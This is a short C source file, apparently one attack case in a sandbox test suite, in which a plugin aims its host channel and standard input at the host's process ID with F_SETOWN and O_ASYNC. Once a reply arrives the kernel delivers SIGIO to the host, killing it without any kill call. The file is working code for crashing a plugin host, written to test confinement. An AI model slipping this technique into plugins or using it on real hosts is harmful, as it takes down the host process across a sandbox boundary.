/*
 * proc_sigio_host — a signal to the host without kill: F_SETOWN makes the kernel send
 * SIGIO to a chosen process whenever a descriptor becomes readable. The plugin aims its
 * channel to the host (descriptor 3) and its standard input at the host's pid, turns on
 * O_ASYNC and asks the host for the time: the host's reply (or its next request, for a
 * host that runs plugins in its own process) makes a descriptor readable, and the host
 * gets SIGIO, whose default action ends it.
 */
#include "attack.h"

#include <signal.h>

static sbx_status attack(const atk_input *in, atk_out *out)
{
    long host = atk_param_long(in, "host_pid", -1);
    uint64_t now = 0;
    if (host <= 0 || atk_host == NULL) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    /* The channel, and standard input, which is where a host that runs its plugins
     * in-process reads its own requests. */
    static const int fds[] = {ATK_CHANNEL_FD, 0};
    int aimed = 0;
    for (size_t i = 0; i < sizeof fds / sizeof fds[0]; i++) {
        if (fcntl(fds[i], F_SETOWN, (pid_t)host) != 0) {
            atk_failed(out, "fcntl(F_SETOWN)", errno);
            continue;
        }
        int flags = fcntl(fds[i], F_GETFL);
        if (flags < 0 || fcntl(fds[i], F_SETFL, flags | O_ASYNC) != 0) {
            atk_failed(out, "fcntl(F_SETFL, O_ASYNC)", errno);
            continue;
        }
        aimed++;
    }
    if (aimed == 0) {
        return SBX_ERR_DENIED;
    }
    atk_host->clock_now(atk_host->ctx, &now);
    atk_printf(out, "%d descriptor(s) owned by %ld with O_ASYNC: the host is due a SIGIO\n", aimed, host);
    return SBX_OK;
}

ATK_INVOKE_PLUGIN(attack)
